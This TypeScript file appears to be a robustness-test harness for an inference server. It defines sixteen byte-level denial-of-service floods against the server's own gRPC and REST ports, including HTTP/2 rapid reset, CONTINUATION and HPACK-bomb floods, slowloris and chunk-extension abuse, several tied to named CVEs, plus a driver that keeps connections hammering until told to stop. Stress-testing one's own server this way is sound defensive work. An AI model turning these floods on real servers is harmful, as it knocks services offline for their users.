import { setMaxListeners } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { ModelInferRequest } from '../../../src/protocol/grpc/generated/open_inference.js';
import { Prng } from '../../../src/scheduler/random/prng.js';
import { encode } from '../ask-grpc.js';
import { encodeRequest } from '../ask-rest.js';
import { makeQuestion } from '../questions.js';
import type { ClientRequest } from '../client-request.js';
import { FloodConnection } from './flood-connection.js';
import {
  callHeaders,
  FLAG,
  frame,
  FRAME,
  literalField,
  NEWEST_FIELD,
  PREFACE,
  SETTING,
  settingsFrame,
  uint32,
} from './http2-frames.js';

/*
 * What one hostile client can do with bytes alone. Each flood is what a connection sends again and again; connections that the server
 * ends are opened anew.
 */

export interface Flood {
  readonly port: 'rest' | 'grpc' | 'metrics';
  readonly what: string;
  readonly connectionCount: number;
  /** False: answers are left to pile up. */
  readonly reads: boolean;
  /** Sent once; what follows a preface, for HTTP/2. */
  readonly opening: () => Uint8Array;
  /** Sent again and again; null to say nothing more. @param n how often before, on this connection */
  readonly next: (n: number) => Uint8Array | null;
  /** Between two of them, for floods whose point is to be slow. */
  readonly pauseMs?: number;
}

const nothing = (): Uint8Array => new Uint8Array();
const silence = (): null => null;
const opened = (...frames: readonly Uint8Array[]): Buffer => Buffer.concat([PREFACE, settingsFrame(), ...frames]);
/** The client's n-th stream. */
const streamOf = (n: number): number => 2 * n + 1;
const many = (count: number, make: (i: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const FRAMES_AT_ONCE = 100;

const LARGE: ClientRequest = {
  question: makeQuestion('large', 1, new Prng(1)),
  id: '2',
  sloMs: null,
  isBestEffort: false,
  clockOffsetMs: null,
  client: null,
  leaveAfterMs: null,
};

function restHead(lines: readonly string[]): Buffer {
  return Buffer.from(
    `POST /v2/models/affine/infer HTTP/1.1\r\nhost: flood\r\n${lines.map((line) => `${line}\r\n`).join('')}`,
  );
}

function largeRestRequest(): Buffer {
  const { path, headers, body } = encodeRequest(LARGE, 'binary');
  const lines = Object.entries({ host: 'flood', 'content-length': String(body.length), ...headers });
  const head = `POST ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

/** As frames of 16 KiB; its answer is as large. */
function largeCall(stream: number): Buffer {
  const message = ModelInferRequest.encode(encode(LARGE, false)).finish();
  const framed = Buffer.concat([Buffer.of(0), uint32(message.length), message]);
  const pieces: Buffer[] = [frame(FRAME.headers, FLAG.endHeaders, stream, callHeaders())];
  for (let from = 0; from < framed.length; from += 16_384) {
    const piece = framed.subarray(from, from + 16_384);
    const isLast = from + 16_384 >= framed.length;
    pieces.push(frame(FRAME.data, isLast ? FLAG.endStream : FLAG.none, stream, piece));
  }
  return Buffer.concat(pieces);
}

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid-reset': {
    port: 'grpc',
    what: 'calls that are begun and reset at once (CVE-2023-44487)',
    connectionCount: 4,
    reads: true,
    opening: opened,
    next: (n) =>
      many(FRAMES_AT_ONCE, (i) => {
        const stream = streamOf(n * FRAMES_AT_ONCE + i);
        const begun = frame(FRAME.headers, FLAG.endHeaders, stream, callHeaders());
        return Buffer.concat([begun, frame(FRAME.reset, FLAG.none, stream, uint32(8))]);
      }),
  },
  continuation: {
    port: 'grpc',
    what: 'a header block that never ends (CVE-2024-27983)',
    connectionCount: 4,
    reads: true,
    opening: () => opened(frame(FRAME.headers, FLAG.none, 1, callHeaders())),
    next: (n) =>
      many(FRAMES_AT_ONCE, (i) => frame(FRAME.continuation, FLAG.none, 1, literalField(`x-${n}-${i}`, 'y'.repeat(50)))),
  },
  settings: {
    port: 'grpc',
    what: 'settings that each want an acknowledgement, which is not read (CVE-2019-9515)',
    connectionCount: 4,
    reads: false,
    opening: opened,
    next: () => many(FRAMES_AT_ONCE, () => settingsFrame([[SETTING.initialWindowSize, 65_535]])),
  },
  ping: {
    port: 'grpc',
    what: 'pings, whose answers are not read (CVE-2019-9512)',
    connectionCount: 4,
    reads: false,
    opening: opened,
    next: () => many(FRAMES_AT_ONCE, () => frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8))),
  },
  'hpack-bomb': {
    port: 'grpc',
    what: 'one kept header of 4 KB, named 3 000 times in each block (CVE-2016-1544)',
    connectionCount: 4,
    reads: true,
    opening: () => {
      const kept = literalField('x-bomb', 'b'.repeat(3900), 'kept');
      return opened(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1, Buffer.concat([callHeaders(), kept])));
    },
    next: (n) =>
      frame(
        FRAME.headers,
        FLAG.endHeaders | FLAG.endStream,
        streamOf(n + 1),
        Buffer.concat([callHeaders(), Buffer.alloc(3000, NEWEST_FIELD)]),
      ),
  },
  'huge-headers': {
    port: 'grpc',
    what: 'header blocks of a megabyte',
    connectionCount: 4,
    reads: true,
    opening: opened,
    next: (n) => {
      const stream = streamOf(n);
      const field = literalField('x-large', 'l'.repeat(16_000));
      return Buffer.concat([
        frame(FRAME.headers, FLAG.none, stream, callHeaders()),
        many(64, () => frame(FRAME.continuation, FLAG.none, stream, field)),
        frame(FRAME.continuation, FLAG.endHeaders, stream),
      ]);
    },
  },
  'many-streams': {
    port: 'grpc',
    what: 'calls that are begun and never ended',
    connectionCount: 4,
    reads: true,
    opening: opened,
    next: (n) =>
      n >= 120
        ? null
        : many(FRAMES_AT_ONCE, (i) =>
            frame(FRAME.headers, FLAG.endHeaders, streamOf(n * FRAMES_AT_ONCE + i), callHeaders()),
          ),
  },
  'window-zero': {
    port: 'grpc',
    what: 'calls with answers of 1.2 MB, for which the client leaves no room (CVE-2019-9517)',
    connectionCount: 4,
    reads: true,
    opening: () =>
      Buffer.concat([
        PREFACE,
        settingsFrame([[SETTING.initialWindowSize, 0]]),
        frame(FRAME.windowUpdate, FLAG.none, 0, uint32(2 ** 30)),
      ]),
    next: (n) => (n >= 200 ? null : largeCall(streamOf(n))),
  },
  'one-byte-data': {
    port: 'grpc',
    what: 'a message of 60 MB in frames of one byte',
    connectionCount: 4,
    reads: true,
    opening: () => {
      const head = frame(FRAME.headers, FLAG.endHeaders, 1, callHeaders());
      return opened(head, frame(FRAME.data, FLAG.none, 1, Buffer.concat([Buffer.of(0), uint32(60_000_000)])));
    },
    next: () => many(500, () => frame(FRAME.data, FLAG.none, 1, Buffer.of(7))),
  },
  'empty-data': {
    port: 'grpc',
    what: 'frames of no data (CVE-2019-9518)',
    connectionCount: 4,
    reads: true,
    opening: () => opened(frame(FRAME.headers, FLAG.endHeaders, 1, callHeaders())),
    next: () => many(FRAMES_AT_ONCE, () => frame(FRAME.data, FLAG.none, 1)),
  },
  slowloris: {
    port: 'rest',
    what: '500 connections with a head that grows by a letter at a time',
    connectionCount: 500,
    reads: true,
    opening: () => restHead(['x-slow: ']),
    next: () => Buffer.from('s'),
    pauseMs: 500,
  },
  'idle-connections': {
    port: 'rest',
    what: '2 000 connections that say nothing',
    connectionCount: 2000,
    reads: true,
    opening: nothing,
    next: silence,
  },
  'header-flood': {
    port: 'rest',
    what: 'heads of 2 000 headers',
    connectionCount: 8,
    reads: true,
    opening: nothing,
    next: () => restHead([...Array.from({ length: 2000 }, (_, i) => `x${i}: y`), 'content-length: 0', '']),
  },
  pipelining: {
    port: 'rest',
    what: 'requests one behind the other, whose answers are not read',
    connectionCount: 8,
    reads: false,
    opening: nothing,
    next: () => many(200, () => Buffer.from('GET /v2/models/affine HTTP/1.1\r\nhost: flood\r\n\r\n')),
  },
  'unread-answers': {
    port: 'rest',
    what: 'requests with answers of 1.2 MB, which are not read',
    connectionCount: 200,
    reads: false,
    opening: largeRestRequest,
    next: silence,
  },
  'chunk-extensions': {
    port: 'rest',
    what: 'chunks of one byte with extensions of 8 KB (CVE-2024-22019)',
    connectionCount: 8,
    reads: true,
    opening: () => restHead(['transfer-encoding: chunked', '']),
    next: () => many(10, () => Buffer.from(`1;${'e'.repeat(8000)}\r\nx\r\n`)),
  },
  'one-byte-chunks': {
    port: 'rest',
    what: 'a body in chunks of one byte',
    connectionCount: 8,
    reads: true,
    opening: () => restHead(['transfer-encoding: chunked', '']),
    next: () => many(1000, () => Buffer.from('1\r\nx\r\n')),
  },
};

export interface Attack {
  connectionsOpened: number;
  sentBytes: number;
}

/** Aborted by now; a function, so that it is asked anew each time. */
const isOver = ({ aborted }: AbortSignal): boolean => aborted;

/** Until `end`; all connections are closed then. */
export async function attack(flood: Flood, port: number, end: AbortSignal): Promise<Attack> {
  const attacked: Attack = { connectionsOpened: 0, sentBytes: 0 };
  // One listener a connection; Node's warning at 11 is meant for leaks.
  setMaxListeners(0, end);
  const flooding = async (): Promise<void> => {
    while (!end.aborted) {
      const connection = await FloodConnection.open(port, flood.reads);
      if (connection === null) {
        await delay(50);
        continue;
      }
      attacked.connectionsOpened += 1;
      await connection.send(flood.opening());
      for (let n = 0; connection.isOpen && !isOver(end); n++) {
        const bytes = flood.next(n);
        if (bytes === null) await delay(100, undefined, { signal: end }).catch(() => undefined);
        else await connection.send(bytes);
        if (flood.pauseMs !== undefined) await delay(flood.pauseMs, undefined, { signal: end }).catch(() => undefined);
      }
      attacked.sentBytes += connection.sentBytes;
      connection.close();
    }
  };
  await Promise.all(Array.from({ length: flood.connectionCount }, flooding));
  return attacked;
}
